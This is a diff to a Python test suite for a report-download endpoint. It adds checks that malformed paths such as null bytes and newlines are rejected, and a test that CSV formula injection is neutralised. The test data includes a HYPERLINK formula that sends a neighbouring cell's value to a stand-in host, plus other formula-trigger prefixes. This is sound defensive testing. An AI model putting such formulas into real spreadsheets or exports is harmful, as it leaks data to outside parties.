@@ -159,6 +159,10 @@ def test_download_endpoint(
         assert get(f"/reports/{key}", password=None)[0] == 401
         assert get("/reports/../secret.txt")[0] in (403, 404)
         assert get("/reports/%2E%2E/secret.txt")[0] == 403
+        # Whatever the path holds, an answer (a request without one hung the client before).
+        for hostile in ("/reports/residency/%00x.csv", "/reports/%FF%FE", "/reports/a%0Ab"):
+            status, body = get(hostile)
+            assert status == 400, (hostile, status, body)
         store.path(key).write_bytes(store.get(key) + b"tampered")
         status, body = get(f"/reports/{key}")
         assert status == 409 and b"SHA-256" in body
@@ -237,3 +241,30 @@ def test_s3_compatible_store_round_trip_and_tamper_check(monkeypatch):
             store.check_key("../other/secret.csv")
     finally:
         server.stop()
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
+    conn, portal_db, mailer, job_settings, store
+):
+    """Tenant names a spreadsheet would evaluate as formulas (CWE-1236) arrive as text."""
+    import csv
+    import io
+
+    hostile = [
+        '=HYPERLINK("http://x.example/?d="&B2,"details")',
+        "@SUM(1+9)",
+        "+61 studio",
+        "-minus",
+        "\tTabbed",
+    ]
+    for name in hostile:
+        tenant = f.tenant(conn, name=name, region="ap-southeast-2")
+        f.asset(conn, tenant, storage_region="ap-southeast-2")
+    assert run(portal_db, mailer, job_settings, store).success
+    key = conn.execute("SELECT storage_uri FROM ops.residency_reports").fetchone()[0]
+    rows = list(csv.DictReader(io.StringIO(store.get(key).decode())))
+    names = {row["tenant"] for row in rows}
+    for name in hostile:
+        assert "'" + name in names, (name, names)
+    every_cell = [cell for row in rows for cell in row.values()]
+    assert not [c for c in every_cell if c[:1] in ("=", "+", "@", "\t", "\r")]
